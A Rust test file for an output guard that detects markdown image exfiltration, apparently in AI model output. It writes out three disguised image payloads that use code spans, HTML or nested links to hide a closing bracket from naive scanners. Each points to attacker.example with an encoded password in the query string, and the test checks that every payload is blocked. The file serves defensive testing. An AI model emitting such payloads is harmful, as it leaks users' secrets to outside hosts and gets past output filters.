//! The attacker puts a `]` inside a code span in the image's alt text. To CommonMark the code span hides the
//! bracket and the whole thing is one image; a scanner that pairs brackets naively sees a closed `![...]` and then
//! a plain link, and lets it through as a mere link.

use airlock_guard::score::Verdict;
use airlock_guard::validate::{FindingKind, OutputPolicy, validate};

#[test]
fn disguise_an_image_as_a_link_with_a_code_span() {
    let url = "https://attacker.example/a.png?k=UEFTU1dPUkQ9aHVudGVyMg";
    for output in [
        format!("Status: ![ok `]` done]({url})"),
        format!("Status: ![ok <span title=\"]\"></span> done]({url})"),
        format!("Status: ![ok [x](https://docs.rs/) done]({url})"),
    ] {
        let v = validate(&output, None, &OutputPolicy::default(), None);
        assert_eq!(v.verdict, Verdict::Block, "{output}: {:#?}", v.findings);
        let f = v.findings.iter().find(|f| &output[f.span.clone()] == url).expect("the attacker's URL is found");
        assert_eq!(f.kind, FindingKind::ImageExfiltration, "{output}");
    }
}
